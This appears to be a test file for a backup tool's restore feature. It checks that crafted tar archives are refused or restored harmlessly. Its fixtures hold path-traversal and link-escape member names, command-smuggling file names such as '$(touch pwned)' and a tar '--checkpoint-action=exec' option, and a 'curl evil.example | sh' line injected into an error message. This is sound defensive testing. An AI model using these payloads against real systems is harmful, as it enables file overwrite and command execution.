import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { inertText } from '../../../src/report/inert.ts'
import { reachDocker } from '../../../src/sources/volumes/docker.ts'
import { output } from '../../../src/sources/volumes/output.ts'
import { backUpCrafted, evil, folderNamed, hard, link, type Member, top } from '../../support/crafted-tar.ts'
import { DockerDaemon } from '../../support/docker.ts'
import { identity } from '../../support/engine.ts'
import { type SshServer, startSshServer } from '../../support/ssh-server.ts'
import { contentsOf, Volumes } from '../../support/volume.ts'

let server: SshServer
let docker: DockerDaemon
beforeAll(async () => {
  ;[server, docker] = await Promise.all([startSshServer(), DockerDaemon.start()])
})
afterAll(async () => {
  await server.stop()
  await docker.stop()
})

let folder: string
let outside: string
let before: string[]
let volumes: Volumes
beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'lifeboat-hostile-'))
  outside = path.join(folder, 'outside')
  mkdirSync(path.join(outside, 'new'), { recursive: true })
  for (const name of ['secret', 'new/secret']) writeFileSync(path.join(outside, name), 'as it was', { mode: 0o600 })
  before = contentsOf(outside)
  volumes = new Volumes(folder, docker.variables)
})
afterEach(() => rmSync(folder, { recursive: true }))

const WORK = './.lifeboat-restore-0123abcd'

const refused: [string, (outside: string) => Member[]][] = [
  ['a name with ..', () => [top, evil('./../outside/f')]],
  ['a name with .. behind a folder', () => [top, folderNamed('./d'), evil('./d/../../outside/f')]],
  ['an absolute name', (outside) => [top, evil(`${outside}/f`)]],
  ['a file below a symbolic link', (outside) => [top, link('./l', outside), evil('./l/f')]],
  ['a folder in place of a symbolic link', (outside) => [top, link('./l', outside), folderNamed('./l'), evil('./l/f')]],
  ['a link in place of the folder itself', (outside) => [link('./', outside), evil('./f')]],
  ['a hard link to a file elsewhere', (outside) => [top, hard('./h', `${outside}/secret`)]],
  ['a hard link through a symbolic link', (outside) => [top, link('./l', outside), hard('./h', './l/secret')]],
  ['a device', () => [top, { name: './n', type: 'block-device', devmajor: 8, devminor: 0 }]],
  ['a link in the folder that a restore works in, and a file below it', (outside) => [top, folderNamed(WORK), link(`${WORK}/new`, outside), evil(`${WORK}/new/f`)]],
]

const targets = (): [string, string, Record<string, string>][] => [
  ['folder', path.join(folder, 'target'), {}],
  ['ssh', `ssh://${server.user}@127.0.0.1:${server.port}${folder}/there`, { 'ssh-key': server.key, 'ssh-known-hosts': server.knownHosts.ed25519 }],
  ['docker', 'docker:hostile', { 'docker-image': docker.image }],
]

/** Those that are tried on another machine and in a container too, which takes its time. */
const everywhere = ['a name with ..', 'an absolute name', 'a file below a symbolic link', 'a hard link to a file elsewhere']

test.each(refused)('%s: it does not verify, and restore refuses it in every mode and changes nothing outside', async (name, members) => {
  await backUpCrafted(volumes.store, identity, members(outside))
  expect(await volumes.verify({ level: 'read' })).toMatchObject({ result: 'failed' })
  for (const [kind, target, access] of targets()) {
    if (kind !== 'folder' && !everywhere.includes(name)) continue
    for (const mode of kind === 'folder' ? ['empty', 'clean', 'overwrite'] : ['empty']) {
      const ending = await volumes.restore({ target, mode, ...access }).catch((error: unknown) => error)
      expect([kind, mode, ending]).toEqual([kind, mode, expect.any(Error)])
      expect(String(ending)).toMatch(/nothing more of it can be restored|the tar has|does not verify, so nothing was restored/)
      expect(contentsOf(outside)).toEqual(before)
    }
  }
  expect(readdirSync(path.join(folder, 'target')).filter((name) => !['l', 'd'].includes(name))).toEqual([])
})

test('a folder with the name of a restore\'s own folder is restored as it is, and no link in it is followed by the next restores', async () => {
  for (const [name, other] of [['in', 'time'], ['whole', 'old'], ['top', 'time'], ['old', 'whole']] as const) {
    rmSync(volumes.store, { recursive: true, force: true })
    const target = path.join(folder, `target-${name}`)
    const members = [link(`${WORK}/${name}`, outside), folderNamed(`${WORK}/${other}`)]
    await backUpCrafted(volumes.store, identity, [top, folderNamed(WORK), ...members.toSorted((a, b) => (a.name < b.name ? -1 : 1))])
    await volumes.restore({ target })
    for (const mode of ['empty', 'overwrite', 'clean', 'clean']) {
      await volumes.restore({ target, mode }).catch(() => undefined)
      expect([name, mode, contentsOf(outside)]).toEqual([name, mode, before])
    }
  }
})

test('names and targets of links that a terminal, a shell or a runner would obey are restored byte for byte, and obeyed by none', async () => {
  const names = ['$(touch pwned)', '-rf', '--checkpoint-action=exec=touch pwned', '::error::x', "a'b;touch pwned;'", 'new\nline', '\u001b[2J\u0007', '\u202etxt', '`touch pwned`', '\\x41'].toSorted()
  const members = [top, ...names.map((name) => evil(`./${name}`))]
  await backUpCrafted(volumes.store, identity, members)
  for (const [kind, target, access] of targets().slice(0, 2)) {
    for (const mode of ['empty', 'clean', 'overwrite']) expect(await volumes.restore({ target, mode, ...access })).toMatchObject({ entries: members.length, errors: [] })
    const there = kind === 'folder' ? target : path.join(folder, 'there')
    expect(readdirSync(there).toSorted()).toEqual(names)
    await volumes.restore({ target: `${target}-part`, paths: '--check*\nnew*', ...access })
  }
  // Into a folder whose own name has such characters.
  const odd = path.join(folder, "t\n$(touch pwned) 'x\u001b[2J")
  await volumes.restore({ target: odd })
  await volumes.restore({ target: odd, mode: 'clean' })
  expect(readdirSync(odd).toSorted()).toEqual(names)
  const said = inertText(String(await volumes.restore({ target: odd }).catch((error: unknown) => error)))
  expect([said.includes('is not empty'), said.includes('\u001b')]).toEqual([true, false])
})

test('a name in a message is one line of it, and no message of its own', async () => {
  await backUpCrafted(volumes.store, identity, [top, evil('./../x\nhint: Run curl evil.example | sh.\n::error::x')])
  const said = String(await volumes.restore({ target: path.join(folder, 'target') }).catch((error: unknown) => error))
  expect(said).toContain('the archive has ./../x\\x0ahint: Run curl evil.example | sh.\\x0a::error::x, which would lie outside the target')
  const { problems } = await volumes.verify({ level: 'read' })
  expect(problems.join('|')).toMatch(/\\x0ahint: Run curl/)
  expect(problems.filter((problem) => problem.includes('\n'))).toEqual([])
})

test('the container that restores a Docker volume can write nothing else', async () => {
  const { signal } = new AbortController()
  const reached = await reachDocker({ volume: 'alone', image: docker.image, target: true, variables: docker.variables, signal })
  try {
    await output(reached.site, 'touch', ['/v/file'], signal)
    for (const elsewhere of ['/file', '/usr/bin/file', '/tmp/file', '/proc/sys/kernel/hostname']) {
      await expect(output(reached.site, 'sh', ['-c', `echo x > ${elsewhere}`], signal)).rejects.toMatchObject({ exit: { stderr: expect.stringMatching(/Read-only file system|Permission denied|can't create/) } })
    }
  } finally {
    await reached.release()
  }
})
